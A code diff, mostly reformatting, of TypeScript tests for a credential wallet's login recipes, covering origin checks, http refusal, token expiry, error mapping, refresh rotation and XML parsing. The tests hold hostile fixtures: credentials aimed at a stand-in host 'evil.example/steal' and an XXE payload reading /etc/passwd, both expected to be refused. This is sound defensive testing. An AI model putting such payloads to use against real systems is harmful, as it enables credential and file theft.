@@ -14,9 +14,26 @@ function recipe(login: string, extra = ''): string {
   return `name: t\ntitle: T\noptions: [{ key: authUrl, label: Auth URL }]\nlogin:\n${login}\ntoken: { path: /t, expires_in: /ttl, lifetime: 60 }\nuse: { header: "X-Auth: {{token}}" }\n${extra}`;
 }
 
-function run(text: string, reply: Reply | ((index: number) => Reply), account: Partial<AccountRecord> = {}, trusted = false) {
-  const http = scriptedHttp((_request, index) => (typeof reply === 'function' ? reply(index) : reply), () => now);
-  const record: AccountRecord = { id: 'i', name: 'n', provider: 't', url: 'https://api.example/base', username: 'alice', options: {}, createdAt: '', ...account };
+function run(
+  text: string,
+  reply: Reply | ((index: number) => Reply),
+  account: Partial<AccountRecord> = {},
+  trusted = false,
+) {
+  const http = scriptedHttp(
+    (_request, index) => (typeof reply === 'function' ? reply(index) : reply),
+    () => now,
+  );
+  const record: AccountRecord = {
+    id: 'i',
+    name: 'n',
+    provider: 't',
+    url: 'https://api.example/base',
+    username: 'alice',
+    options: {},
+    createdAt: '',
+    ...account,
+  };
   const context: ProviderContext = { account: record, password: 'pw-SECRET', http: http.transport, now: () => now };
   const provider = recipeProvider(parseRecipe(text), { trusted, source: 'installed' });
   return { provider, context, requests: http.requests };
@@ -36,20 +53,31 @@ test('relative paths go under the account URL (with its prefix)', async () => {
 test('a recipe never sends credentials to another origin unless the account allows that origin', async () => {
   const other = recipe('  path: https://evil.example/steal\n  auth: basic');
   const refused = run(other, ok);
-  await assert.rejects(refused.provider.login(refused.context), (error: unknown) => error instanceof WalletError && error.kind === 'usage' && /--allow-origin https:\/\/evil\.example/.test(error.message));
+  await assert.rejects(
+    refused.provider.login(refused.context),
+    (error: unknown) =>
+      error instanceof WalletError &&
+      error.kind === 'usage' &&
+      /--allow-origin https:\/\/evil\.example/.test(error.message),
+  );
   assert.equal(refused.requests.length, 0, 'nothing was sent');
   const allowed = run(other, ok, { allowOrigins: ['https://evil.example'] });
   await allowed.provider.login(allowed.context);
   assert.equal(allowed.requests.length, 1);
   // A URL the user gave as an account option is the user's own choice.
-  const option = run(recipe('  path: "{{authUrl}}"\n  auth: basic'), ok, { options: { authUrl: 'https://login.example/token' } });
+  const option = run(recipe('  path: "{{authUrl}}"\n  auth: basic'), ok, {
+    options: { authUrl: 'https://login.example/token' },
+  });
   await option.provider.login(option.context);
   assert.equal(option.requests[0]?.url.toString(), 'https://login.example/token');
 });
 
 test('never plain http to a non-loopback host without --allow-http', async () => {
   const plain = run(recipe('  path: /auth\n  auth: basic'), ok, { url: 'http://api.example' });
-  await assert.rejects(plain.provider.login(plain.context), /plain http to api\.example; use https, or pass --allow-http/);
+  await assert.rejects(
+    plain.provider.login(plain.context),
+    /plain http to api\.example; use https, or pass --allow-http/,
+  );
   assert.equal(plain.requests.length, 0);
   const allowed = run(recipe('  path: /auth\n  auth: basic'), ok, { url: 'http://api.example', allowHttp: true });
   await allowed.provider.login(allowed.context);
@@ -66,7 +94,11 @@ test('absolute expiry: epoch seconds, epoch ms, ISO with and without zone, on th
   const text = recipe('  path: /auth\n  auth: basic').replace('expires_in: /ttl, lifetime: 60', 'expires_at: /exp');
   // The server's clock is 10 minutes behind ours; its token lives one hour.
   const serverNow = now - 600_000;
-  const { provider, context } = run(text, { status: 200, headers: { Date: new Date(serverNow).toUTCString() }, body: { t: 'tok', exp: new Date(serverNow + 3_600_000).toISOString() } });
+  const { provider, context } = run(text, {
+    status: 200,
+    headers: { Date: new Date(serverNow).toUTCString() },
+    body: { t: 'tok', exp: new Date(serverNow + 3_600_000).toISOString() },
+  });
   assert.equal((await provider.login(context)).expiresAt, now + 3_600_000);
   const expired = run(text, { status: 200, body: { t: 'tok', exp: '2020-01-01T00:00:00Z' } });
   await assert.rejects(expired.provider.login(expired.context), /already expired \(check both clocks\)/);
@@ -77,26 +109,53 @@ test('the fixed lifetime is the fallback when the answer has no expires_in', asy
   assert.equal((await provider.login(context)).expiresAt, now + 60_000);
 });
 
-test('errors: the recipe\'s messages by status and server text, rate limits with their reset, rejected statuses', async () => {
-  const extra = 'errors:\n  rejected: [401, 400]\n  messages:\n    - { status: 403, match: Locked, message: "account {{username}} is locked", kind: credentials }\n';
+test("errors: the recipe's messages by status and server text, rate limits with their reset, rejected statuses", async () => {
+  const extra =
+    'errors:\n  rejected: [401, 400]\n  messages:\n    - { status: 403, match: Locked, message: "account {{username}} is locked", kind: credentials }\n';
   const text = recipe('  path: /auth\n  auth: basic', extra);
   const locked = run(text, { status: 403, body: { message: 'Account LOCKED' } });
-  await assert.rejects(locked.provider.login(locked.context), (error: unknown) => error instanceof WalletError && error.kind === 'credentials' && error.message === 'account alice is locked');
+  await assert.rejects(
+    locked.provider.login(locked.context),
+    (error: unknown) =>
+      error instanceof WalletError && error.kind === 'credentials' && error.message === 'account alice is locked',
+  );
   const other403 = run(text, { status: 403, body: { message: 'nope' } });
-  await assert.rejects(other403.provider.login(other403.context), (error: unknown) => error instanceof WalletError && error.kind === 'unexpected');
+  await assert.rejects(
+    other403.provider.login(other403.context),
+    (error: unknown) => error instanceof WalletError && error.kind === 'unexpected',
+  );
   const bad = run(text, { status: 400, body: { error: 'x' } });
-  await assert.rejects(bad.provider.login(bad.context), (error: unknown) => error instanceof WalletError && error.kind === 'credentials');
-  const limited = run(text, { status: 429, headers: { 'X-RateLimit-Remaining': '0', 'X-RateLimit-Reset': String(now / 1000 + 30) }, body: {} });
-  await assert.rejects(limited.provider.login(limited.context), (error: unknown) => error instanceof WalletError && error.details.rateLimited === true && error.details.retryAt === now + 30_000);
+  await assert.rejects(
+    bad.provider.login(bad.context),
+    (error: unknown) => error instanceof WalletError && error.kind === 'credentials',
+  );
+  const limited = run(text, {
+    status: 429,
+    headers: { 'X-RateLimit-Remaining': '0', 'X-RateLimit-Reset': String(now / 1000 + 30) },
+    body: {},
+  });
+  await assert.rejects(
+    limited.provider.login(limited.context),
+    (error: unknown) =>
+      error instanceof WalletError && error.details.rateLimited === true && error.details.retryAt === now + 30_000,
+  );
   const html = run(text, { status: 200, headers: { 'Content-Type': 'text/html' }, body: '<html>sso</html>' });
   await assert.rejects(html.provider.login(html.context), /HTML page instead of JSON/);
-  const exhausted = run(text, { status: 200, headers: { 'X-RateLimit-Remaining': '0', 'X-RateLimit-Reset': String(now / 1000 + 60) }, body: { t: 'tok', ttl: 300 } });
+  const exhausted = run(text, {
+    status: 200,
+    headers: { 'X-RateLimit-Remaining': '0', 'X-RateLimit-Reset': String(now / 1000 + 60) },
+    body: { t: 'tok', ttl: 300 },
+  });
   assert.equal((await exhausted.provider.login(exhausted.context)).throttledUntil, now + 60_000);
 });
 
 test('refresh: rotation keeps the newest refresh token, a missing one keeps the current; no refresh token means a login', async () => {
   const text = `name: r\ntitle: R\nlogin: { path: /login, auth: basic }\ntoken: { path: /t, expires_in: /ttl, refresh_token: /r }\nrefresh:\n  path: /refresh\n  body: { json: { refresh_token: "{{refresh_token}}" } }\nuse: { header: "Authorization: Bearer {{token}}" }\n`;
-  const replies: Reply[] = [{ status: 200, body: { t: 'a2', ttl: 60, r: 'r2' } }, { status: 200, body: { t: 'a3', ttl: 60 } }, { status: 200, body: { t: 'a4', ttl: 60, r: 'r4' } }];
+  const replies: Reply[] = [
+    { status: 200, body: { t: 'a2', ttl: 60, r: 'r2' } },
+    { status: 200, body: { t: 'a3', ttl: 60 } },
+    { status: 200, body: { t: 'a4', ttl: 60, r: 'r4' } },
+  ];
   const { provider, context, requests } = run(text, (index) => replies[index] ?? ok);
   const second = await provider.renew?.(context, { accessToken: 'a1', refreshToken: 'r1', issuedAt: 0, expiresAt: 1 });
   assert.equal(second?.refreshToken, 'r2');
@@ -112,6 +171,9 @@ test('XML tokens: DOCTYPE refused, element path followed', async () => {
   const text = `name: x\ntitle: X\nlogin: { path: /login, auth: basic }\ntoken: { from: xml, path: r/data/tok, lifetime: 600 }\nuse: { header: "Authorization: Bearer {{token}}" }\n`;
   const good = run(text, { status: 200, body: '<r><data><tok>abc</tok></data></r>' });
   assert.equal((await good.provider.login(good.context)).accessToken, 'abc');
-  const evil = run(text, { status: 200, body: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><data><tok>&x;</tok></data></r>' });
+  const evil = run(text, {
+    status: 200,
+    body: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><data><tok>&x;</tok></data></r>',
+  });
   await assert.rejects(evil.provider.login(evil.context), /DOCTYPE/);
 });
